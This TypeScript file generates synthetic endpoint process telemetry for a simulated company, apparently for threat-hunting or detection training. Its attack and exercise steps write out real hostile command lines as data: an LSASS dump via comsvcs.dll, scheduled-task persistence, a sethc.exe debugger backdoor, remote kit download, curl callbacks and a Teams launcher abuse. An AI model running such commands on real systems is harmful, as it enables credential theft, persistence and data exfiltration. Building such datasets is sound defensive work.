import { encodedCommand, files, infrastructure, processIds, timeline, victims } from '../attack.ts';
import { type Host, hostOf, people, personOf, servers, workstations } from '../company.ts';
import { exercise, exerciseTimeline } from '../exercise.ts';
import {
  adminLaunches,
  engineerLaunches,
  fileFacts,
  inventoryLaunch,
  type Launch,
  pathOf,
  systemLaunches,
  userLaunches,
} from '../programs.ts';
import type { Random } from '../random.ts';
import { anyMoment, busyMoment, hour, minute, type Row, second, type World } from '../world.ts';
import { type Account, accountOf, addInitiator, deviceRow, domainAccount, systemAccount } from './device.ts';

/** Processes: people's, administrators', the system's, and those of steps 7, 9 and 13 of the story. */
export function* deviceProcessEvents(world: World): Generator<Row> {
  for (const day of world.days) {
    const random = world.random(`DeviceProcessEvents ${day.key}`);
    for (const person of people) {
      if (world.presence(person, day) === null) continue;
      const account = accountOf(person);
      for (let left = random.int(4, 9); left > 0; left--) {
        const list = person.department.code === 'ENG' && random.chance(0.4) ? engineerLaunches : userLaunches;
        yield processRow(random, busyMoment(random, day), person.host, account, random.pick(list));
      }
      if (person.admin && !day.weekend) {
        const admin = domainAccount(`adm-${person.account}`);
        for (let left = random.int(3, 9); left > 0; left--) {
          const host = random.chance(0.5) ? person.host : random.pick(servers.slice(0, 8));
          yield processRow(random, busyMoment(random, day), host, admin, random.pick(adminLaunches));
        }
      }
    }
    for (const host of [...workstations, ...servers])
      if (host.os === 'Windows')
        for (let left = host.role === 'workstation' ? 1 : 6; left > 0; left--)
          yield processRow(random, anyMoment(random, day), host, systemAccount, random.pick(systemLaunches));
    if (new Date(day.start + 12 * hour).getUTCDay() === 1)
      for (const host of workstations)
        yield processRow(
          random,
          day.start + 12 * hour + random.int(0, 3600) * second,
          host,
          domainAccount('svc-deploy'),
          inventoryLaunch,
        );
  }
  yield* attack(world);
  yield* exercised(world);
}

/** One process of the story: after so many seconds, parent, program, command line. */
type Step = readonly [after: number, parent: string, parentCommand: string, file: string, command: string];

const documentPath = `C:\\Users\\${victims.second}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2V7Q1XB\\${files.document.name}`;
const wordCommand = `"WINWORD.EXE" /n "${documentPath}" /o`;
const implantPath = `${files.implant.folder}\\${files.implant.name}`;
const implantCommand = `"${implantPath}" -c ${infrastructure.controlDomain}`;

/** Step 7: the document and its children. */
const opened: readonly Step[] = [
  [0, 'OUTLOOK.EXE', '"OUTLOOK.EXE"', 'WINWORD.EXE', wordCommand],
  [22, 'WINWORD.EXE', wordCommand, 'powershell.exe', encodedCommand],
  [31, 'powershell.exe', encodedCommand, 'whoami.exe', 'whoami.exe /all'],
  [38, 'powershell.exe', encodedCommand, 'net.exe', 'net.exe group "Domain Admins" /domain'],
  [44, 'powershell.exe', encodedCommand, 'nltest.exe', 'nltest.exe /domain_trusts'],
  [52, 'powershell.exe', encodedCommand, 'systeminfo.exe', 'systeminfo.exe'],
  [
    96,
    'powershell.exe',
    encodedCommand,
    'schtasks.exe',
    `schtasks.exe /create /tn "SyncHelper" /tr "${implantPath}" /sc onlogon /f`,
  ],
  [120, 'powershell.exe', encodedCommand, files.implant.name, implantCommand],
];

/** Step 9: memory of the logon process. */
const dumped: readonly Step[] = [
  [0, files.implant.name, implantCommand, 'tasklist.exe', 'tasklist.exe /fi "imagename eq lsass.exe"'],
  [
    41,
    files.implant.name,
    implantCommand,
    'rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\SyncHelper\\cache\\d.bin full',
  ],
];

/** Step 13: packing; what was read over two nights goes into one archive. */
const packed: readonly Step[] = [
  [0, files.implant.name, implantCommand, 'cmd.exe', 'cmd.exe /c dir /s \\\\FS01\\Designs'],
  [
    35,
    files.implant.name,
    implantCommand,
    '7z.exe',
    `7z.exe a -mhe=on -p%RANDOM% ${files.archive.folder}\\${files.archive.name} ${files.archive.folder}\\in`,
  ],
];

function* attack(world: World): Generator<Row> {
  const random = world.random('DeviceProcessEvents attack');
  const account = accountOf(personOf(victims.second));
  const host = hostOf(victims.secondHost);
  for (const [start, steps] of [
    [timeline.documentOpened, opened],
    [timeline.memoryDump, dumped],
    [timeline.archive, packed],
  ] as const)
    for (const [after, parent, parentCommand, file, command] of steps) {
      const launch: Launch = { parent, parentCommand, file, command, weight: 1 };
      const row = processRow(random, world.at(start) + after * second, host, account, launch);
      row.ProcessId = processIds[file] ?? row.ProcessId;
      row.InitiatingProcessId = processIds[parent] ?? row.InitiatingProcessId;
      if (parent === 'powershell.exe') row.InitiatingProcessParentFileName = 'WINWORD.EXE';
      yield row;
    }
}

const binFolder = 'C:\\$Recycle.Bin\\S-1-5-21-1004336348-1177238915-682003330-500';

/** What the player of the exercise runs; `%s` is the far side. */
const played: readonly Step[] = [
  [
    0,
    'explorer.exe',
    'explorer.exe',
    'powershell.exe',
    'powershell.exe -NoProfile -Command "Invoke-WebRequest https://%s/kit.zip -OutFile kit.zip"',
  ],
  [75, 'powershell.exe', 'powershell.exe', 'cmd.exe', `cmd.exe /c ${binFolder}\\rt.exe --check`],
  [76, 'cmd.exe', `cmd.exe /c ${binFolder}\\rt.exe --check`, 'rt.exe', `${binFolder}\\rt.exe --check`],
  [
    180,
    'powershell.exe',
    'powershell.exe',
    'powershell.exe',
    `powershell.exe -Command "[IO.File]::WriteAllBytes('rt.dll', [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA'))"`,
  ],
  [300, 'cmd.exe', 'cmd.exe', 'net.exe', 'net.exe user /domain'],
  [311, 'cmd.exe', 'cmd.exe', 'net.exe', 'net.exe group "Backup Operators" /domain'],
  [
    540,
    'cmd.exe',
    'cmd.exe',
    'reg.exe',
    'reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d C:\\Windows\\System32\\cmd.exe /f',
  ],
  [600, 'winlogon.exe', 'winlogon.exe', 'cmd.exe', '"C:\\Windows\\System32\\cmd.exe" sethc.exe 211'],
  [
    1200,
    'EXCEL.EXE',
    '"EXCEL.EXE" "C:\\Exercise\\Budget.xlsx"',
    'cmd.exe',
    'cmd.exe /c curl https://%s/ping',
  ],
  [
    1500,
    'msedge.exe',
    '"msedge.exe"',
    'Teams.exe',
    '"Teams.exe" --gpu-launcher="cmd.exe /c start https://%s/"',
  ],
];

function* exercised(world: World): Generator<Row> {
  const random = world.random('DeviceProcessEvents exercise');
  const account = accountOf(personOf(exercise.player));
  const host = hostOf(exercise.host);
  for (const [after, parent, parentCommand, file, text] of played) {
    const command = text.replace('%s', exercise.domain);
    const launch: Launch = { parent, parentCommand, file, command, weight: 1 };
    const time = world.at(exerciseTimeline.handsOn) + after * second;
    const row = processRow(random, time, host, account, launch);
    if (file === 'rt.exe') row.FolderPath = `${binFolder}\\rt.exe`;
    yield row;
  }
  const shell: Launch = {
    parent: 'sh',
    parentCommand: '/bin/sh /etc/NetworkManager/dispatcher.d/11-dhclient eth0 up',
    file: 'sh',
    command: `sh -c "curl https://${exercise.domain}/ping"`,
    weight: 1,
  };
  const root: Account = {
    name: 'root',
    domain: exercise.linuxHost.toLowerCase(),
    sid: '',
    upn: '',
    objectId: '',
  };
  const linux = processRow(random, world.at(exerciseTimeline.linux), hostOf(exercise.linuxHost), root, shell);
  const unix = { FolderPath: '/usr/bin/sh', InitiatingProcessFolderPath: '/usr/bin/sh' };
  yield { ...linux, ...unix, InitiatingProcessParentFileName: 'nm-dispatcher' };
}

function processRow(random: Random, time: number, host: Host, account: Account, launch: Launch): Row {
  const facts = fileFacts(launch.file);
  const row = deviceRow(time, host, 'ProcessCreated', random.int(1000, 9_999_999));
  row.FileName = launch.file;
  row.FolderPath = pathOf(launch.file);
  row.ProcessCommandLine = launch.command.replace('%u', account.name);
  row.ProcessId = 4 * random.int(300, 6000);
  row.ProcessCreationTime = row.TimeGenerated;
  row.ProcessIntegrityLevel =
    account.name === 'system' ? 'System' : account.name.startsWith('adm-') ? 'High' : 'Medium';
  row.ProcessTokenElevation = account.name.startsWith('adm-')
    ? 'TokenElevationTypeFull'
    : 'TokenElevationTypeDefault';
  row.SHA256 = facts.sha256;
  row.SHA1 = facts.sha1;
  row.MD5 = facts.md5;
  row.FileSize = facts.size;
  row.AccountName = account.name;
  row.AccountDomain = account.domain;
  row.AccountSid = account.sid;
  row.AccountUpn = account.upn;
  row.AccountObjectId = account.objectId;
  row.LogonId = random.int(100_000, 9_999_999);
  row.InitiatingProcessParentFileName = grandparents[launch.parent] ?? 'explorer.exe';
  row.InitiatingProcessCreationTime = new Date(time - random.int(1, 120) * minute);
  return addInitiator(row, launch.parent, launch.parentCommand, 4 * random.int(300, 6000), account);
}

/** What usually started the program that starts another. */
const grandparents: Readonly<Record<string, string>> = {
  'explorer.exe': 'userinit.exe',
  'services.exe': 'wininit.exe',
  'svchost.exe': 'services.exe',
  'deployagent.exe': 'services.exe',
  'WINWORD.EXE': 'OUTLOOK.EXE',
  [files.implant.name]: 'powershell.exe',
};
